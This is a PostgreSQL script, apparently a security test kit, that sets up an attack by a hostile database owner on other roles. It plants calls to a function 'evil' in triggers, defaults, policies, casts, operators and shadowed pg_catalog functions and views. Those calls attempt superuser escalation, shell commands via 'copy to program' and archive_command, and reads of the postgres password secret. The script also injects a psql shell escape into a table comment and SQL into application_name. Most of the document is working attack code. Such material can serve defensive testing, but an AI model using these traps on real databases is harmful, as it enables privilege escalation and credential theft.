-- What a hostile owner of the database can replace or shadow, so that whoever else signs in there runs its code.
-- Each piece calls evil(), which says in the server's log who runs it, and tries to gain from it.

-- Tries each statement, and says in the server's log which one was not refused.
create function public.evil_try(attempts text[]) returns void language plpgsql as $evil$
declare
  attempt text;
begin
  foreach attempt in array attempts loop
    begin
      execute attempt;
      raise log 'evil succeeded: %', attempt;
    exception when others then null;
    end;
  end loop;
end $evil$;

create function public.evil() returns boolean language plpgsql as $evil$
begin
  raise log 'evil runs as %/%', session_user, current_user;
  perform public.evil_try(array[
    'alter role kidney_user superuser',
    'set local role postgres; alter role kidney_user superuser',
    'reset session authorization; alter role kidney_user superuser',
    'set local session authorization postgres; alter role kidney_user superuser',
    'grant pg_read_server_files, pg_execute_server_program to kidney_user',
    'create role evil_role superuser login',
    $$copy (select 1) to program 'touch /tmp/evil'$$,
    $$select lo_export(lo_creat(-1), '/tmp/evil')$$,
    $$select pg_read_file('/run/secrets/postgres_password')$$,
    $$select lo_import('/run/secrets/postgres_password')$$,
    $$create server evil_server foreign data wrapper file_fdw$$,
    $$alter system set archive_command = 'touch /tmp/evil'$$,
    $$alter function pg_catalog.pg_read_file(text) owner to kidney_user$$,
    $$insert into pg_catalog.pg_auth_members select * from pg_catalog.pg_auth_members$$,
    $$update pg_catalog.pg_authid set rolsuper = true where rolname = 'kidney_user'$$
  ]);
  return true;
end $evil$;

create function public.evil_quietly(anyelement) returns boolean language plpgsql immutable as $$
begin
  return public.evil();
end $$;

-- Triggers of the kit's own tables.
create or replace function public.keep_last_ok() returns trigger language plpgsql as $$
begin
  perform public.evil();
  new.last_ok_at := new.finished_at;
  return new;
end $$;
create or replace function public.lock_data_state() returns trigger language plpgsql as $$
begin
  perform public.evil();
  return null;
end $$;
create function public.evil_state() returns trigger language plpgsql as $$
begin
  perform public.evil();
  return new;
end $$;
create trigger evil before update or insert on public.data_state for each row execute function public.evil_state();

-- Functions that run when data are read, written, restored, analysed or described.
create table public.trap (
  id integer default (case when public.evil() then 1 end) check (public.evil_quietly(id)),
  twice integer generated always as (case when public.evil_quietly(id) then 2 end) stored
);
insert into public.trap values (1);
create index trap_index on public.trap ((public.evil_quietly(id)));
create view public.trap_view as select public.evil() as evil;
create materialized view public.trap_matview as select public.evil() as evil;
alter table public.trap enable row level security;
create policy trap_policy on public.trap using (public.evil());
create statistics public.trap_statistics on (public.evil_quietly(id)), id from public.trap;
create domain public.trap_domain as integer check (public.evil_quietly(value));
create table public.trap_domain_user (value public.trap_domain);
insert into public.trap_domain_user values (1);

create rule trap_rule as on insert to public.trap do also select public.evil();
create index trap_partial on public.trap (id) where public.evil_quietly(id);
create sequence public.trap_sequence;
alter table public.trap add constraint trap_deferred unique (id) deferrable initially deferred;
create function public.evil_trigger() returns trigger language plpgsql as $$
begin
  -- A temporary table is looked for before pg_catalog, in this session alone.
  create temporary table if not exists pg_roles (rolname name, rolsuper boolean);
  perform public.evil();
  return null;
end $$;
create constraint trigger trap_late after insert or update on public.trap deferrable initially deferred
  for each row execute function public.evil_trigger();
create trigger trap_emptied after truncate on public.trap for each statement execute function public.evil_trigger();
create function public.evil_part(integer) returns integer language plpgsql immutable as $$
begin
  perform public.evil();
  return $1;
end $$;
create table public.trap_parts (id integer) partition by range (public.evil_part(id));
create table public.trap_part partition of public.trap_parts for values from (0) to (10);
insert into public.trap_parts values (1);

-- Types, casts and what else is called by itself.
create type public.trap_row as (id integer);
create function public.trap_to_text(public.trap_row) returns pg_catalog.text language plpgsql as $$
begin
  perform public.evil();
  return 'x';
end $$;
create cast (public.trap_row as pg_catalog.text) with function public.trap_to_text(public.trap_row) as implicit;
create table public.trap_row_user (value public.trap_row);
insert into public.trap_row_user values (row(1));
create function public.evil_step(pg_catalog.text, pg_catalog.text) returns pg_catalog.text language plpgsql as $$
begin
  perform public.evil();
  return $2;
end $$;
create aggregate public.max(pg_catalog.text) (sfunc = public.evil_step, stype = pg_catalog.text);
create function public.evil_diff(integer, integer) returns double precision language plpgsql immutable as $$
begin
  perform public.evil();
  return 0;
end $$;
create type public.trap_range as range (subtype = integer, subtype_diff = public.evil_diff);
create collation public."C" from "POSIX";
create text search configuration public.english (copy = pg_catalog.english);
create default conversion public.trap_conversion for 'LATIN1' to 'UTF8' from pg_catalog.iso8859_1_to_utf8;
create publication trap_publication for table public.trap;
select lo_create(424242);
grant all on large object 424242 to public;
alter default privileges grant all on tables to public;
alter default privileges grant execute on functions to public;
grant all on schema public to public;
comment on table public.trap is E'\x1b[2J\n\\! touch /tmp/evil';

-- What a superuser alone may make: refused, one by one.
do $$
begin
  perform public.evil_try(array[
    'create event trigger evil_ddl on ddl_command_end execute function public.evil_trigger()',
    'create foreign data wrapper evil_wrapper', 'create extension postgres_fdw', 'create extension file_fdw',
    'create extension dblink', 'create language evil handler public.evil_trigger',
    'create function public.evil_c() returns integer language c as ''/tmp/evil'', ''evil''',
    'create operator class public.evil_class default for type integer using btree as operator 1 <',
    'create access method evil_method type index handler pg_catalog.bthandler',
    'create subscription evil_subscription connection ''dbname=postgres'' publication trap_publication',
    'create function pg_catalog.array_to_string(text[], text, integer) returns text language sql as ''select 1''',
    'create tablespace evil_space location ''/tmp''', 'alter database kidney_genetics owner to postgres',
    'alter database postgres set search_path = public', 'alter role postgres set search_path = public'
  ]);
end $$;

-- A migration table that is none.
alter table public.schema_migrations rename to real_migrations;
create view public.schema_migrations as select * from public.real_migrations where public.evil();

-- Catalogs, functions, operators and types of the same names, found first.
do $$
declare
  name text;
  one record;
begin
  foreach name in array array['pg_class', 'pg_namespace', 'pg_database', 'pg_roles', 'pg_stat_activity', 'pg_settings',
    'pg_proc', 'pg_hba_file_rules', 'pg_locks', 'pg_depend'] loop
    execute format('create view public.%I as select * from pg_catalog.%1$I where public.evil()', name);
  end loop;
  for one in
    select p.proname, pg_get_function_identity_arguments(p.oid) as arguments, p.proretset, p.prorettype::regtype as result,
      (select string_agg('$' || n, ', ') from generate_series(1, p.pronargs) as n) as passed
    from pg_proc as p
    where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and p.provariadic = 0
      and p.prorettype::regtype::text not like 'any%' and p.prorettype <> 'internal'::regtype and p.proallargtypes is null
      and not exists (select from unnest(p.proargtypes) as t (id) join pg_type on pg_type.oid = t.id where typtype = 'p')
      and p.proname in ('array_to_string', 'to_regclass', 'current_database', 'current_setting', 'pg_get_userbyid', 'md5',
        'quote_ident', 'quote_literal', 'pg_database_size', 'pg_encoding_to_char', 'row_to_json', 'has_database_privilege',
        'has_schema_privilege', 'pg_terminate_backend', 'pg_export_snapshot', 'pg_backend_pid', 'translate', 'split_part',
        'substr', 'strpos', 'format_type', 'pg_get_expr', 'pg_get_constraintdef', 'pg_get_indexdef', 'pg_get_functiondef',
        'pg_get_triggerdef', 'pg_get_viewdef', 'clock_timestamp', 'round', 'upper', 'pg_sleep', 'format', 'set_config',
        'pg_is_in_recovery', 'jsonb_typeof', 'aclexplode', 'greatest')
  loop
    begin
      execute format('create function public.%I(%s) returns %s language plpgsql as ' ||
        '$body$ begin perform public.evil(); %s pg_catalog.%1$I(%s); end $body$', one.proname, one.arguments,
        case when one.proretset then 'setof ' else '' end || one.result,
        case when one.result::text = 'void' then 'perform' when one.proretset then 'return query select' else 'return' end,
        coalesce(one.passed, ''));
    exception when others then null;
    end;
  end loop;
end $$;
create function public.evil_equal(name, text) returns boolean language plpgsql as $$
begin perform public.evil(); return $1::pg_catalog.text operator(pg_catalog.=) $2; end $$;
create operator public.= (leftarg = name, rightarg = pg_catalog.text, function = public.evil_equal);
create operator public.~ (leftarg = name, rightarg = pg_catalog.text, function = public.evil_equal);
create operator public.!~ (leftarg = name, rightarg = pg_catalog.text, function = public.evil_equal);
create operator public.<> (leftarg = name, rightarg = pg_catalog.text, function = public.evil_equal);
create domain public.oid as pg_catalog.oid check (public.evil());
create domain public.regclass as pg_catalog.text check (public.evil());

-- What sessions are told when they begin.
alter role kidney_user set search_path = public, pg_catalog;
alter role kidney_user set application_name = E'x''\nALTER ROLE kidney_user WITH SUPERUSER;\nALTER ROLE kidney_user SUPERUSER;\n''';
alter database kidney_genetics set search_path = public, pg_catalog;
alter database kidney_genetics set standard_conforming_strings = off;
alter database kidney_genetics set client_encoding = 'SJIS';
alter database kidney_genetics set "DateStyle" = 'SQL, DMY';
alter database kidney_genetics set bytea_output = 'escape';
alter database kidney_genetics set quote_all_identifiers = on;
alter database kidney_genetics set check_function_bodies = off;
alter database kidney_genetics set role = 'kidney_user';
